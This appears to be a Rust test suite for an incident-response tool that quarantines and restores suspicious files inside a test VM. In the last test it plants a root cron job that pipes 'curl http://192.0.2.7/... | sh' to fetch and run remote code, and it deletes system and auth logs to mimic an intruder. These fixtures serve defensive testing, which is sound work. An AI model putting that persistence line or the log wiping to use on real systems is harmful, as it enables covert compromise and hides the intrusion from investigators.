//! Folders, pipes, sockets and devices into the vault and back, and what is said where the logs do
//! not reach back to the intruder.

#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use serde_json::Value;
use stanch_range::{Victim, debian, possible};

fn stanch(victim: &Victim, words: &[&str]) -> (Value, i32) {
    victim.stanch(&[&["--case", "/run/range/case"][..], words].concat()).unwrap()
}

/// A folder with all that may lie in one, some of it locked, and names that are no text.
const NEST: &str = "
    mkdir -p '/var/tmp/.../deep/deeper'; cd '/var/tmp/...'
    printf 'one\\n' > file; printf x > deep/$(printf 'a\\377b'); ln -s /etc/passwd link
    mkfifo -m 640 pipe; mknod -m 600 null c 1 3; mknod -m 640 disk b 7 99
    perl -MIO::Socket::UNIX -e 'IO::Socket::UNIX->new(Local => \"sock\", Listen => 1)' || true
    chown 33:4 pipe deep; chmod 1770 deep; chmod 711 .
    chattr +i file deep/deeper 2>/dev/null || true
    touch -d 2019-03-04T05:06:07.123456789 pipe null disk";

/// All of it, with what belongs to each; a folder's time is its own.
fn told(victim: &Victim) -> String {
    victim
        .shell(
            "cd /var/tmp; find '...' -type d -printf '%p %y %m %U %G\\n' -o \
             -printf '%p %y %m %U %G %s %T@ %l\\n' | sort; find '...' -type f | sort | xargs -d '\\n' md5sum
             find '...' -type b -o -type c | sort | xargs stat -c '%n %t %T'
             lsattr -R '...' 2>/dev/null | grep -v '^$' | sort",
        )
        .unwrap()
}

#[test]
fn a_folder_goes_with_all_that_lies_in_it_and_comes_back() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim.shell(NEST).unwrap();
    let before = told(&victim);
    for round in 1..=2 {
        let words = ["eradicate", "apply", "--yes", "--no-look", "--path", "/var/tmp/..."];
        let (done, code) = stanch(&victim, &words);
        assert_eq!(code, 0, "{done}");
        assert_eq!(victim.run(&["ls", "-A", "/var/tmp"]).unwrap().out, "", "round {round}");
        let acts = done.pointer("/acts").and_then(Value::as_array).unwrap();
        let plan =
            acts.last().and_then(|act| act.pointer("/plan")).and_then(Value::as_str).unwrap();
        let (list, _) = stanch(&victim, &["quarantine", "list"]);
        let items = list.pointer("/items").and_then(Value::as_array).unwrap();
        assert!(items.len() >= 8, "{list}");
        let (undone, code) = stanch(&victim, &["undo", plan]);
        assert_eq!(code, 0, "{undone}");
        assert_eq!(told(&victim), before, "round {round}");
    }
    // A pipe alone, as a finding names it.
    let words = ["eradicate", "apply", "--yes", "--no-look", "--path", "/var/tmp/.../pipe"];
    assert_eq!(stanch(&victim, &words).1, 0);
    assert_ne!(victim.run(&["test", "-e", "/var/tmp/.../pipe"]).unwrap().code, 0);
    let before = victim.shell("find /opt /etc /home /usr | md5sum").unwrap();
    victim.shell("mkdir /opt/mine /opt/mine/under; mount -t tmpfs none /opt/mine/under").unwrap();
    // What belongs to the system, or is somebody's, or another file system, stays as a whole.
    for stays in ["/usr", "/usr/share", "/opt", "/etc/ssh", "/root", "/var/backups", "/opt/mine"] {
        let (plan, code) = stanch(&victim, &["eradicate", "plan", "--path", stays]);
        assert_eq!(code, 4, "{stays}: {plan}");
    }
    victim.shell("umount /opt/mine/under; rmdir /opt/mine/under /opt/mine").unwrap();
    assert_eq!(victim.shell("find /opt /etc /home /usr | md5sum").unwrap(), before);
}

#[test]
fn a_folder_that_was_cut_off_half_way_comes_back_or_goes() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    victim.shell(NEST).unwrap();
    let before = told(&victim);
    let mut cut_off = 0;
    for (at, call) in ["unlinkat:2", "unlinkat:5", "fsync:9", "unlinkat:9"].iter().enumerate() {
        let (name, number) = call.split_once(':').unwrap();
        let script = format!(
            "strace -f -qq -o /dev/null -e trace={name} -e inject={name}:signal=KILL:when={number} \
             /run/range/stanch --case /run/range/case eradicate apply --yes --no-look --path /var/tmp/..."
        );
        victim.run(&["timeout", "60", "sh", "-c", &script]).unwrap();
        let (status, code) = stanch(&victim, &["contain", "status"]);
        assert_eq!(code, 0, "{status}");
        let acts = status.pointer("/acts").and_then(Value::as_array).unwrap();
        let text = |act: &Value, key: &str| act.pointer(key).unwrap().as_str().unwrap().to_owned();
        let open = acts.iter().filter(|act| text(act, "/state") == "cut-off");
        for act in open {
            cut_off += 1;
            let id = text(act, "/id");
            let way: &[&str] =
                if at % 2 == 0 { &["undo", &id] } else { &["undo", &id, "--resume"] };
            let (told, code) = stanch(&victim, way);
            assert_eq!(code, 0, "{way:?} after {call}: {told}");
        }
        let (status, _) = stanch(&victim, &["contain", "status"]);
        for act in status.pointer("/acts").and_then(Value::as_array).unwrap().iter().rev() {
            if text(act, "/state") == "done" {
                let (told, code) = stanch(&victim, &["undo", &text(act, "/id")]);
                assert_eq!(code, 0, "after {call}: {told}");
            }
        }
        assert_eq!(told(&victim), before, "after {call}");
    }
    assert!(cut_off >= 2, "it was cut off {cut_off} times");
}

#[test]
fn root_that_was_here_before_the_logs_begin_is_told_and_after_is_not() {
    if !possible() {
        return;
    }
    let victim = Victim::boot(&debian().unwrap()).unwrap();
    let plant = |name: &str| {
        victim
            .shell(&format!(
                "mkdir -p /usr/local/lib/{name}; printf '#!/bin/sh\\n/tmp/.{name}\\n' > /usr/local/lib/{name}/run
                 printf '#!/bin/sh\\ntrue\\n' > /tmp/.{name}; chmod 755 /usr/local/lib/{name}/run /tmp/.{name}
                 printf '* * * * * root curl -s http://192.0.2.7/{name} | sh\\n' > /etc/cron.d/{name}"
            ))
            .unwrap();
    };
    let costs = || {
        let (plan, code) = stanch(&victim, &["eradicate", "plan", "--level", "high"]);
        assert_eq!(code, 0, "{plan}");
        assert!(plan.pointer("/steps").unwrap().to_string().contains("/etc/cron.d/"), "{plan}");
        plan.pointer("/costs").unwrap().to_string()
    };
    // The logs begin, then root plants something.
    victim.shell("logger -p auth.info begins; sleep 2").unwrap();
    plant("later");
    let told = costs();
    assert!(!told.contains("reach back") && !told.contains("no log of logins"), "{told}");
    // The logs that are left begin after it.
    victim
        .shell(
            "sleep 2; rm -rf /var/log/auth.log* /var/log/syslog* /var/log/messages* /var/log/journal
             kill -HUP $(cat /run/rsyslogd.pid); sleep 1; logger -p auth.info anew; sleep 1",
        )
        .unwrap();
    let told = costs();
    assert!(told.contains("reach back to"), "{told}");
    victim.shell("rm -f /var/log/auth.log* /var/log/syslog* /var/log/messages*").unwrap();
    let told = costs();
    assert!(told.contains("no log of logins is left"), "{told}");
}
